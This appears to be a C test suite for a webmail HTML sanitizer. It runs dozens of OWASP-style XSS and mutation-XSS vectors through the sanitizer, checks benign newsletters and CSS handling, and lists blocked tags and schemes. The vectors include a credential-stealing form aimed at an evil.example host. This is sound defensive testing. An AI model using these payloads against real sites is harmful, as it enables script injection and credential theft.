/*
 * test-sanitize: html_escape(), text_to_html() and html_sanitize() on
 * hostile HTML (the OWASP XSS filter evasion vectors and mXSS cases)
 * and on benign newsletters.  Every output is checked twice: as text
 * (no "<script", no on*= attribute, no "javascript:" once entities are
 * undone...) and parsed again by gumbo, as the browser will, where
 * every element and attribute must be one the sanitizer writes.  Each
 * output must also come back unchanged from a second html_sanitize().
 */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <gumbo.h>

#include "webmail.h"
#include "../t/tap.h"

static const char *const hostile[] = {
	"<script>alert(1)</script>",
	"<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
	"<ScRiPt>alert(1)</sCrIpT>",
	"<scr<script>ipt>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<IMG SRC=\"javascript:alert('XSS');\">",
	"<IMG SRC=JaVaScRiPt:alert('XSS')>",
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	"<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
	"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"
	    "&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;"
	    "&#41;>",
	"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
	    "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
	"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
	"<a href=\"jav\tascript:alert(1)\">x</a>",
	"<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
	"<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
	"<a href=\" &#14;  javascript:alert(1)\">x</a>",
	"<a href=\"  javascript:alert(1)\">x</a>",
	"<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
	"<a href=\"javascript&#58alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	"<a href=\"vbscript:msgbox(1)\">x</a>",
	"<a href=\"data:text/html;base64,"
	    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
	"<img src=\"data:text/html,<script>alert(1)</script>\">",
	"<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
	"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<form><math><mtext></form><form><mglyph><style></math>"
	    "<img src onerror=alert(1)>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<template><img src=x onerror=alert(1)></template>",
	"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
	"<iframe src=\"javascript:alert(1)\"></iframe>",
	"<frameset><frame src=\"javascript:alert(1)\"></frameset>",
	"<form action=\"https://evil.example/steal\"><input name=p "
	    "type=password><button formaction=\"javascript:alert(1)\">go"
	    "</button></form>",
	"<base href=\"javascript:alert(1)//\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<link rel=stylesheet href=\"javascript:alert(1)\">",
	"<object data=\"javascript:alert(1)\"></object>",
	"<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"
	    "==\">",
	"<style>@import 'https://evil.example/x.css';</style>",
	"<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE>",
	"<div style=\"width: expression(alert(1));\">x</div>",
	"<div style=\"width: \\65 xpression(alert(1))\">x</div>",
	"<div style=\"w\\idth: e\\x\\p\\r\\e\\s\\s\\i\\o\\n(alert(1))\">"
	    "x</div>",
	"<div style=\"background-image: url(javascript:alert(1))\">x</div>",
	"<div style=\"background: u\\72 l(javascript:alert(1))\">x</div>",
	"<div style=\"behavior: url(xss.htc); -moz-binding: url(x.xml#xss)\">"
	    "x</div>",
	"<div style=\"position: fixed; top: 0; left: 0; width: 100%\">x</div>",
	"<div style=\"color: red;/**/ w/**/idth: ex/**/pression(alert(1))\">x"
	    "</div>",
	"<div style=\"color: red\\; position\\: fixed\">x</div>",
	"<div style=\"font-family: '\\27 ;position:fixed'\">x</div>",
	"<div style=\"color: red } body { background: red\">x</div>",
	"<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061"
	    "\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c"
	    "\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'"
	    "\\0029\">x</DIV>",
	"<a href=\"https://ok.example/\" onclick=\"alert(1)\" "
	    "onmouseover=alert(1)>x</a>",
	"<a href=x` onclick=alert(1)>x</a>",
	"<img src=`x` onerror=`alert(1)`>",
	"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
	"<!-- <!-- nested --> <script>alert(1)</script> -->",
	"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<BODY ONLOAD=alert('XSS')>",
	"<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
	"<xmp><img src=x onerror=alert(1)></xmp>",
	"<plaintext><img src=x onerror=alert(1)>",
	"<textarea><img src=x onerror=alert(1)></textarea>",
	"<title><img src=x onerror=alert(1)></title>",
	"<select><option><img src=x onerror=alert(1)></option></select>",
	"<video><source onerror=alert(1)></video>",
	"<audio src=x onerror=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<marquee onstart=alert(1)>x</marquee>",
	"<isindex action=javascript:alert(1) type=image>",
	"<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
	"<img srcset=\"x 1x, javascript:alert(1) 2x\" src=\"data:image/png;"
	    "base64,iVBORw0KGgo=\">",
	"<img src=\"http:/evil.example/x.gif\"><a href=\"http:evil\">x</a>",
	"<a href=\"/settings/delete-account\">relative</a>"
	    "<img src=\"/logout\">",
	"<p id=\"x\" class=\"y\" name=\"z\" data-x=\"1\" xmlns=\"q\">p</p>",
	"<a href=\"#\" target=\"_top\" rel=\"opener\">x</a>",
	"<x-evil onclick=alert(1)><a href=\"https://ok.example/\">ok</a>"
	    "</x-evil>",
	"<div><table><a href=\"https://ok.example/\"><table><a>x</a></table>"
	    "</a></table></div>",
	"<p><b><i>mis</b>nested</i></p>",
	"<img src=\"cid:evil%00x\"><img src=\"cid:\">",
};

/* ---- Checks on the output ---- */

/* The output with entities undone, lower case, without tabs, newlines
 * and NULs (which URL parsers remove). */
static char *
undo(const char *s)
{
	char *d = malloc(strlen(s) + 1), *p = d;
	unsigned long cp;
	char *end;

	while (*s != '\0') {
		if (s[0] == '&' && s[1] == '#') {
			if (s[2] == 'x' || s[2] == 'X')
				cp = strtoul(s + 3, &end, 16);
			else
				cp = strtoul(s + 2, &end, 10);
			if (end > s + 2 && cp < 0x80) {
				if (cp != '\t' && cp != '\n' && cp != '\r')
					*p++ = (char)tolower((int)cp);
				s = *end == ';' ? end + 1 : end;
				continue;
			}
		}
		if (strncmp(s, "&amp;", 5) == 0) {
			*p++ = '&';
			s += 5;
		} else if (strncmp(s, "&quot;", 6) == 0) {
			*p++ = '"';
			s += 6;
		} else if (strncmp(s, "&lt;", 4) == 0) {
			*p++ = '<';
			s += 4;
		} else if (strncmp(s, "&gt;", 4) == 0) {
			*p++ = '>';
			s += 4;
		} else if (strncmp(s, "&colon;", 7) == 0) {
			*p++ = ':';
			s += 7;
		} else {
			if (*s != '\t' && *s != '\n' && *s != '\r')
				*p++ = (char)tolower((unsigned char)*s);
			s++;
		}
	}
	*p = '\0';
	return d;
}

static const char *const bad_tags[] = {
	"<script", "<svg", "<math", "<iframe", "<form", "<base", "<meta",
	"<style", "<object", "<embed", "<template", "<noscript", "<link",
	"<frame", "<input", "<textarea", "<title", "<xmp", "<plaintext",
	"<!--", "<![cdata",
};

/* Every attribute of every tag: no on*=, nothing we never write. */
static int
attrs_ok(const char *s)
{
	static const char *const ok_names[] = { "abbr", "align", "alt",
	    "bgcolor", "border", "cellpadding", "cellspacing", "clear",
	    "color", "colspan", "datetime", "dir", "face", "height", "hspace",
	    "lang", "noshade", "nowrap", "reversed", "rowspan", "scope",
	    "size", "span", "start", "summary", "title", "type", "valign",
	    "value", "vspace", "width", "href", "src", "style", "rel",
	    "target" };
	const char *p = s, *n;
	size_t len, i;

	while ((p = strchr(p, '<')) != NULL) {
		p++;
		if (*p == '/')
			continue;
		while (*p != '>' && *p != '\0') {
			if (*p != ' ') {
				p++;
				continue;
			}
			n = ++p;
			len = strcspn(n, "=> ");
			if (strncasecmp(n, "on", 2) == 0)
				return 0;
			for (i = 0; i < sizeof(ok_names) / sizeof(ok_names[0]);
			    i++)
				if (strlen(ok_names[i]) == len &&
				    strncmp(n, ok_names[i], len) == 0)
					break;
			if (i == sizeof(ok_names) / sizeof(ok_names[0]))
				return 0;
			p = n + len;
			if (*p == '=') {
				if (p[1] != '"' || (p = strchr(p + 2, '"')) ==
				    NULL)
					return 0;
				p++;
			}
		}
	}
	return 1;
}

static int
text_safe(const char *out, const char **why)
{
	char *u = undo(out), *low = strdup(out);
	size_t i;
	int ok = 0;

	for (i = 0; low[i] != '\0'; i++)
		low[i] = (char)tolower((unsigned char)low[i]);
	*why = NULL;
	for (i = 0; i < sizeof(bad_tags) / sizeof(bad_tags[0]); i++)
		if (strstr(low, bad_tags[i]) != NULL)
			*why = bad_tags[i];
	if (*why == NULL && strstr(u, "javascript:") != NULL)
		*why = "javascript:";
	else if (*why == NULL && strstr(u, "vbscript:") != NULL)
		*why = "vbscript:";
	else if (*why == NULL && strstr(u, "expression(") != NULL)
		*why = "expression(";
	else if (*why == NULL && strstr(u, "data:text") != NULL)
		*why = "data:text";
	else if (*why == NULL && strstr(u, "url(") != NULL)
		*why = "url(";
	else if (*why == NULL && strstr(u, "position: fixed") != NULL)
		*why = "position: fixed";
	else if (*why == NULL && !attrs_ok(out))
		*why = "an attribute not on the list";
	else if (*why == NULL)
		ok = 1;
	free(u);
	free(low);
	return ok;
}

/*
 * The output parsed again as the browser will: only HTML elements the
 * sanitizer writes, a and img URLs with allowed schemes.
 */
static int
tree_ok(const GumboNode *n, const char **why)
{
	static const GumboTag kept[] = { GUMBO_TAG_HTML, GUMBO_TAG_HEAD,
	    GUMBO_TAG_BODY, GUMBO_TAG_P, GUMBO_TAG_DIV, GUMBO_TAG_SPAN,
	    GUMBO_TAG_A, GUMBO_TAG_B, GUMBO_TAG_I, GUMBO_TAG_U, GUMBO_TAG_EM,
	    GUMBO_TAG_STRONG, GUMBO_TAG_IMG, GUMBO_TAG_TABLE, GUMBO_TAG_TBODY,
	    GUMBO_TAG_THEAD, GUMBO_TAG_TFOOT, GUMBO_TAG_TR, GUMBO_TAG_TD,
	    GUMBO_TAG_TH, GUMBO_TAG_H1, GUMBO_TAG_H2, GUMBO_TAG_UL,
	    GUMBO_TAG_OL, GUMBO_TAG_LI, GUMBO_TAG_BR, GUMBO_TAG_HR,
	    GUMBO_TAG_PRE, GUMBO_TAG_FONT, GUMBO_TAG_CENTER,
	    GUMBO_TAG_DETAILS, GUMBO_TAG_CAPTION, GUMBO_TAG_BLOCKQUOTE };
	const GumboAttribute *a;
	unsigned int i;
	size_t k;

	if (n->type == GUMBO_NODE_COMMENT || n->type == GUMBO_NODE_CDATA ||
	    n->type == GUMBO_NODE_TEMPLATE) {
		*why = "comment, CDATA or template";
		return 0;
	}
	if (n->type != GUMBO_NODE_ELEMENT)
		return 1;
	if (n->v.element.tag_namespace != GUMBO_NAMESPACE_HTML) {
		*why = "foreign element";
		return 0;
	}
	for (k = 0; k < sizeof(kept) / sizeof(kept[0]); k++)
		if (kept[k] == n->v.element.tag)
			break;
	if (k == sizeof(kept) / sizeof(kept[0])) {
		*why = gumbo_normalized_tagname(n->v.element.tag);
		return 0;
	}
	for (i = 0; i < n->v.element.attributes.length; i++) {
		a = n->v.element.attributes.data[i];
		if ((strcmp(a->name, "href") == 0 &&
		    strncmp(a->value, "https://", 8) != 0 &&
		    strncmp(a->value, "http://", 7) != 0 &&
		    strncmp(a->value, "mailto:", 7) != 0) ||
		    (strcmp(a->name, "src") == 0 &&
		    strncmp(a->value, "https://", 8) != 0 &&
		    strncmp(a->value, "http://", 7) != 0 &&
		    strncmp(a->value, "data:image/", 11) != 0)) {
			*why = "a URL";
			return 0;
		}
	}
	for (i = 0; i < n->v.element.children.length; i++)
		if (!tree_ok(n->v.element.children.data[i], why))
			return 0;
	return 1;
}

static int
reparse_ok(const char *out, const char **why)
{
	GumboOutput *g = gumbo_parse(out);
	int rc = tree_ok(g->root, why);

	gumbo_destroy_output(&kGumboDefaultOptions, g);
	return rc;
}

static int cid_calls;

static char *
cid_url(const char *cid, void *arg)
{
	char *u;

	cid_calls++;
	if (asprintf(&u, "%s%s", (const char *)arg, cid) == -1)
		return NULL;
	return u;
}

static char *
sanitize(const char *html, size_t len, int remote, struct html_report *r)
{
	struct html_policy p = { remote, cid_url,
	    "https://webmail.example/part/" };
	struct buf b;

	buf_init(&b, 1 << 20);
	if (html_sanitize(html, len, &p, &b, r) == -1) {
		buf_release(&b);
		return NULL;
	}
	return buf_take(&b);
}

static void
test_hostile(void)
{
	struct html_report r;
	const char *why;
	char *out, *again;
	size_t i;
	int safe;

	for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		const char *h = hostile[i];
		size_t len = strlen(h);

		out = sanitize(h, len, 0, &r);
		if (!ok(out != NULL, "vector %zu sanitized", i))
			continue;
		safe = text_safe(out, &why);
		if (!ok(safe, "vector %zu: no %s in the output", i,
		    safe ? "danger" : why))
			diag("in: %s\nout: %s", h, out);
		why = NULL;
		safe = reparse_ok(out, &why);
		if (!ok(safe, "vector %zu: parsed again, only allowed "
		    "markup%s%s", i, safe ? "" : ": ", safe ? "" : why))
			diag("in: %s\nout: %s", h, out);
		again = sanitize(out, strlen(out), 0, NULL);
		if (!ok(again != NULL && strcmp(out, again) == 0,
		    "vector %zu: sanitizing the output changes nothing", i))
			diag("once: %s\ntwice: %s", out, again);
		free(again);
		free(out);
	}
}

/* Vectors with NUL octets in them (strlen would stop at the first). */
static void
test_nul(void)
{
	static const char v1[] = "<IMG SRC=\"jav\0ascript:alert(1)\">";
	static const char v2[] = "<scr\0ipt>alert(1)</scr\0ipt><p>a\0b</p>";
	static const char v3[] = "<a href=\"java\0script:alert(1)\">x</a>";
	const char *why;
	char *out;

	out = sanitize(v1, sizeof(v1) - 1, 0, NULL);
	ok(out != NULL && text_safe(out, &why) && out[0] == '\0',
	    "NUL inside javascript: in img src: image dropped");
	free(out);
	out = sanitize(v2, sizeof(v2) - 1, 0, NULL);
	ok(out != NULL && text_safe(out, &why) &&
	    strstr(out, "<scr") == NULL && strstr(out, "<p>ab</p>") != NULL,
	    "NUL inside a tag name: no script; NUL in text dropped (%s)",
	    out ? out : "");
	free(out);
	out = sanitize(v3, sizeof(v3) - 1, 0, NULL);
	ok(out != NULL && text_safe(out, &why) &&
	    strcmp(out, "<a>x</a>") == 0, "NUL inside javascript: in href");
	free(out);
}

static const char newsletter[] =
	"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\">\n"
	"<html><head><meta charset=\"utf-8\"><title>News</title>\n"
	"<style>body { margin: 0 } .x { color: red }</style></head>\n"
	"<body style=\"margin:0\" bgcolor=\"#eeeeee\">\n"
	"<!--[if mso]><table><tr><td><![endif]-->\n"
	"<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" "
	"align=\"center\" style=\"background-color: #FFFFFF; "
	"font-family: 'Helvetica Neue', Arial, sans-serif\">\n"
	"<tr><td align=\"center\" style=\"padding: 20px 10px 0 10px\">"
	"<img src=\"cid:logo@example.com\" alt=\"Example Co\" width=\"120\" "
	"height=\"40\" style=\"display: block; border: 0\"></td></tr>\n"
	"<tr><td style=\"color: #333333; font-size: 16px; line-height: 1.5\">"
	"<h1 style=\"font-size:24px;font-weight:bold\">Spring sale &amp; "
	"more</h1>\n"
	"<p>Dear reader, <b>everything</b> is <i>20% off</i> this week.</p>\n"
	"<ul><li>Shoes</li><li>Hats &lt;new&gt;</li></ul>\n"
	"<p><a href=\"https://shop.example/sale?utm_source=mail&amp;id=42\" "
	"style=\"color: rgb(0, 102, 204); text-decoration: underline\" "
	"target=\"_self\">Shop now</a></p>\n"
	"<p><img src=\"https://tracker.example/open.gif?u=123\" width=\"1\" "
	"height=\"1\" alt=\"\"></p>\n"
	"</td></tr>\n"
	"<tr><td style=\"font-size: 12px; color: #999\">"
	"<a href=\"mailto:unsubscribe@shop.example?subject=stop\">"
	"Unsubscribe</a></td></tr>\n"
	"</table>\n"
	"<!--[if mso]></td></tr></table><![endif]-->\n"
	"</body></html>\n";

static void
test_newsletter(void)
{
	struct html_report r;
	const char *why;
	char *out, *again;

	cid_calls = 0;
	out = sanitize(newsletter, sizeof(newsletter) - 1, 0, &r);
	if (!ok(out != NULL, "newsletter sanitized"))
		return;
	ok(text_safe(out, &why) && reparse_ok(out, &why),
	    "newsletter: safe");
	ok(strncmp(out, "<table width=\"600\" cellpadding=\"0\" "
	    "cellspacing=\"0\" border=\"0\" align=\"center\" style=\""
	    "background-color: #FFFFFF; font-family: &#39;Helvetica Neue&#39;, "
	    "Arial, sans-serif\">", 95) == 0 || strstr(out,
	    "<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" "
	    "border=\"0\" align=\"center\" style=\"background-color: #FFFFFF; "
	    "font-family: &#39;Helvetica Neue&#39;, Arial, sans-serif\">") !=
	    NULL, "table with its attributes and inline style kept");
	ok(strstr(out, "<tbody><tr><td align=\"center\" style=\"padding: 20px "
	    "10px 0 10px\">") != NULL, "tbody, tr, td kept");
	ok(strstr(out, "<h1 style=\"font-size: 24px; font-weight: bold\">"
	    "Spring sale &amp; more</h1>") != NULL, "heading and its text");
	ok(strstr(out, "<p>Dear reader, <b>everything</b> is <i>20% off</i> "
	    "this week.</p>") != NULL, "b and i kept");
	ok(strstr(out, "<ul><li>Shoes</li><li>Hats &lt;new&gt;</li></ul>") !=
	    NULL, "list kept, its text escaped");
	ok(strstr(out, "<a href=\"https://shop.example/sale?utm_source=mail"
	    "&amp;id=42\" style=\"color: rgb(0, 102, 204); text-decoration: "
	    "underline\" rel=\"noopener noreferrer\" target=\"_blank\">"
	    "Shop now</a>") != NULL,
	    "https link kept, its target replaced, rel added");
	ok(strstr(out, "<a href=\"mailto:unsubscribe@shop.example?subject="
	    "stop\" rel=\"noopener noreferrer\" target=\"_blank\">"
	    "Unsubscribe</a>") != NULL, "mailto link kept");
	ok(cid_calls == 1 && strstr(out, "<img src=\"https://webmail.example/"
	    "part/logo@example.com\" alt=\"Example Co\" width=\"120\" "
	    "height=\"40\" style=\"display: block; border: 0\">") != NULL,
	    "cid: image through the callback");
	ok(strstr(out, "tracker.example") == NULL && r.remote_blocked == 1,
	    "remote image blocked and counted (%u)", r.remote_blocked);
	ok(strstr(out, "News") == NULL && strstr(out, "color: red") == NULL &&
	    strstr(out, "<html") == NULL && strstr(out, "<body") == NULL &&
	    strstr(out, "mso") == NULL, "no head, title, style, body, "
	    "conditional comments");
	ok(r.dropped_elements >= 1, "dropped elements counted (%u)",
	    r.dropped_elements);
	/* The cid: image is now an https: one. */
	again = sanitize(out, strlen(out), 1, NULL);
	if (!ok(again != NULL && strcmp(again, out) == 0,
	    "newsletter: sanitizing the output changes nothing"))
		diag("once: %s\ntwice: %s", out, again);
	free(again);
	free(out);

	out = sanitize(newsletter, sizeof(newsletter) - 1, 1, &r);
	ok(out != NULL && strstr(out, "<img src=\"https://tracker.example/"
	    "open.gif?u=123\" width=\"1\" height=\"1\" alt=\"\">") != NULL &&
	    r.remote_blocked == 0, "remote image kept when allowed");
	free(out);
}

static void
test_styles(void)
{
	static const struct {
		const char *in, *out;
	} t[] = {
		{ "<p style=\"COLOR: Red; Position: absolute; z-index: 9\">x",
		  "<p style=\"color: Red\">x</p>" },
		{ "<p style=\"c\\olor: \\72 ed\">x",
		  "<p style=\"color: red\">x</p>" },
		{ "<p style=\"margin: 0 auto !important; width: calc(100% - "
		  "2px)\">x", "<p style=\"margin: 0 auto !important; width: "
		  "calc(100% - 2px)\">x</p>" },
		{ "<p style=\"color: red; width: attr(x); font-family: 'a\">x",
		  "<p style=\"color: red\">x</p>" },
		{ "<p style=\"background: #fff url(https://t.example/x)\">x",
		  "<p>x</p>" },
		{ "<p style=\"-moz-binding: x; behavior: y; color: blue\">x",
		  "<p style=\"color: blue\">x</p>" },
		{ "<p style=\"fontexpression-family: x; font-weight: bold; "
		  "text-align: center; textfoo: 1\">x",
		  "<p style=\"font-weight: bold; text-align: center\">x</p>" },
	};
	struct html_report r;
	char *out;
	size_t i;

	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		out = sanitize(t[i].in, strlen(t[i].in), 0, &r);
		if (!ok(out != NULL && strcmp(out, t[i].out) == 0,
		    "style %zu: %s", i, t[i].out))
			diag("got: %s", out ? out : "(null)");
		free(out);
	}
}

static void
test_limits(void)
{
	static const char nested_a[] = "<table><tr><td><a href=\""
	    "https://a.example/\"><table><a>x</a></table></a></table>";
	static const char utf8[] = "a\xff\xc0\x80<p title=\"\xed\xa0\x80\">b";
	struct html_policy p = { 0, NULL, NULL };
	struct html_report r;
	struct buf b, big;
	const char *why;
	char *out;
	size_t i;
	int divs;

	/* Deeper than SANITIZE_MAX_DEPTH: the text is still there. */
	buf_init(&big, 0);
	for (i = 0; i < 400; i++)
		buf_puts(&big, "<div>");
	buf_puts(&big, "deep <b>text</b>");
	out = sanitize(big.data, big.len, 0, &r);
	for (divs = 0, why = out; out && (why = strstr(why, "<div")) != NULL;
	    why++)
		divs++;
	ok(out != NULL && divs == SANITIZE_MAX_DEPTH &&
	    strstr(out, "deep text") != NULL,
	    "nesting cut at %d, text kept (%d)", SANITIZE_MAX_DEPTH, divs);
	free(out);

	/* Too many tags: refused before parsing. */
	buf_reset(&big);
	for (i = 0; i <= SANITIZE_MAX_TAGS; i++)
		buf_puts(&big, "<i>");
	buf_init(&b, 0);
	buf_puts(&b, "kept");
	ok(html_sanitize(big.data, big.len, &p, &b, &r) == -1 &&
	    strcmp(b.data, "kept") == 0,
	    "more than %d tags refused, b as it was", SANITIZE_MAX_TAGS);
	buf_release(&b);

	/* Formatting elements cloned at every closing tag: the arena. */
	buf_reset(&big);
	for (i = 0; i < 2000; i++)
		buf_puts(&big, "<div>");
	for (i = 0; i < 2000; i++)
		buf_printf(&big, "<b a=%zu>", i);
	for (i = 0; i < 2000; i++)
		buf_puts(&big, "</div>x");
	buf_init(&b, 0);
	ok(html_sanitize(big.data, big.len, &p, &b, &r) == -1 && b.len == 0,
	    "parse over %u MiB of memory refused",
	    SANITIZE_MAX_PARSE_MEM >> 20);
	buf_release(&b);

	/* b's max: -1, and b as it was. */
	buf_init(&b, 16);
	buf_puts(&b, "x");
	ok(html_sanitize(newsletter, sizeof(newsletter) - 1, &p, &b, &r) ==
	    -1 && strcmp(b.data, "x") == 0, "output over b's max: -1, b as "
	    "it was");
	buf_release(&b);
	buf_release(&big);

	out = sanitize(nested_a, sizeof(nested_a) - 1, 0, &r);
	ok(out != NULL && strcmp(out, "<table><tbody><tr><td><a href=\""
	    "https://a.example/\" rel=\"noopener noreferrer\" "
	    "target=\"_blank\">x<table></table></a></td></tr></tbody>"
	    "</table>") == 0 &&
	    r.dropped_elements == 1, "an <a> inside an <a> (through a table):"
	    " its text only");
	free(out);
	out = sanitize("", 0, 0, &r);
	ok(out != NULL && out[0] == '\0', "empty body");
	free(out);
	out = sanitize("<pre>\n\nx</pre>", 14, 0, &r);
	ok(out != NULL && strcmp(out, "<pre>\n\nx</pre>") == 0,
	    "<pre>'s leading newline kept");
	free(out);
	out = sanitize(utf8, sizeof(utf8) - 1, 0, &r);
	ok(out != NULL && strcmp(out, "a\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
	    "<p title=\"\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\">b</p>") == 0,
	    "invalid UTF-8 as U+FFFD (%s)", out ? out : "");
	free(out);
}

static char *
esc(const char *s, size_t n, int text)
{
	struct buf b;

	buf_init(&b, 0);
	if ((text ? text_to_html(&b, s, n) : html_escape(&b, s, n)) == -1) {
		buf_release(&b);
		return NULL;
	}
	return buf_take(&b);
}

static void
test_escape(void)
{
	static const char ctl[] = "a\0b\x01\x1f\x7f\t\n\rc";
	static const char bad[] = "\xc0\xaf|\xe0\x80\xaf|\xed\xa0\x80|"
	    "\xf4\x90\x80\x80|\xc3|\x80|\xe2\x82";
	struct buf b;
	char *s;

	s = esc("&<>\"'x", 6, 0);
	ok(strcmp(s, "&amp;&lt;&gt;&quot;&#39;x") == 0, "every special char");
	free(s);
	s = esc(ctl, sizeof(ctl) - 1, 0);
	ok(strcmp(s, "a\xef\xbf\xbd" "b\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
	    "\t\n\rc") == 0, "C0 controls and DEL replaced, tab LF CR kept");
	free(s);
	s = esc("\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80", 9, 0);
	ok(strcmp(s, "\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80") == 0,
	    "valid UTF-8 kept");
	free(s);
	s = esc(bad, sizeof(bad) - 1, 0);
	ok(strcmp(s, "\xef\xbf\xbd\xef\xbf\xbd|"
	    "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd|"
	    "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd|"
	    "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd|"
	    "\xef\xbf\xbd|\xef\xbf\xbd|\xef\xbf\xbd\xef\xbf\xbd") == 0,
	    "overlong, surrogate, past U+10FFFF, truncated: U+FFFD (%s)", s);
	free(s);
	buf_init(&b, 0);
	ok(html_escape_str(&b, "a<b") == 0 && strcmp(b.data, "a&lt;b") == 0,
	    "html_escape_str");
	buf_release(&b);
	buf_init(&b, 8);
	ok(html_escape_str(&b, "<<<") == -1, "max reached: -1");
	buf_release(&b);
}

static void
test_text(void)
{
	static const struct {
		const char *in, *out;
	} t[] = {
		{ "a < b & c > \"d\"", "a &lt; b &amp; c &gt; &quot;d&quot;" },
		{ "line 1\nline 2\r\n", "line 1\nline 2\r\n" },
		{ "see https://a.example/x?y=1&z=2.",
		  "see <a href=\"https://a.example/x?y=1&amp;z=2\" "
		  "rel=\"noopener noreferrer\" target=\"_blank\">"
		  "https://a.example/x?y=1&amp;z=2</a>." },
		{ "(http://a.example/b), ok",
		  "(<a href=\"http://a.example/b\" rel=\"noopener noreferrer\" "
		  "target=\"_blank\">http://a.example/b</a>), ok" },
		{ "https://en.wikipedia.org/wiki/C_(language)!",
		  "<a href=\"https://en.wikipedia.org/wiki/C_(language)\" "
		  "rel=\"noopener noreferrer\" target=\"_blank\">"
		  "https://en.wikipedia.org/wiki/C_(language)</a>!" },
		{ "<HTTPS://A.EXAMPLE/>", "&lt;<a href=\"HTTPS://A.EXAMPLE/\" "
		  "rel=\"noopener noreferrer\" target=\"_blank\">"
		  "HTTPS://A.EXAMPLE/</a>&gt;" },
		{ "mail mailto:bob@example.com, thanks",
		  "mail <a href=\"mailto:bob@example.com\" rel=\"noopener "
		  "noreferrer\" target=\"_blank\">mailto:bob@example.com</a>, "
		  "thanks" },
		{ "javascript:alert(1) data:text/html,x ftp://a.example/",
		  "javascript:alert(1) data:text/html,x ftp://a.example/" },
		{ "xhttp://a.example/ https:// http:/x",
		  "xhttp://a.example/ https:// http:/x" },
		{ "https://a.example/\"onmouseover=\"alert(1)",
		  "<a href=\"https://a.example/\" rel=\"noopener noreferrer\" "
		  "target=\"_blank\">https://a.example/</a>&quot;onmouseover="
		  "&quot;alert(1)" },
		{ "https://a.example/'x'",
		  "<a href=\"https://a.example/&#39;x\" "
		  "rel=\"noopener noreferrer\" target=\"_blank\">"
		  "https://a.example/&#39;x</a>&#39;" },
	};
	char *s;
	size_t i;

	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		s = esc(t[i].in, strlen(t[i].in), 1);
		if (!ok(s != NULL && strcmp(s, t[i].out) == 0,
		    "text_to_html %zu", i))
			diag("in: %s\ngot: %s", t[i].in, s ? s : "(null)");
		free(s);
	}
}

int
main(void)
{
	test_escape();
	test_text();
	test_hostile();
	test_nul();
	test_newsletter();
	test_styles();
	test_limits();
	return done_testing();
}
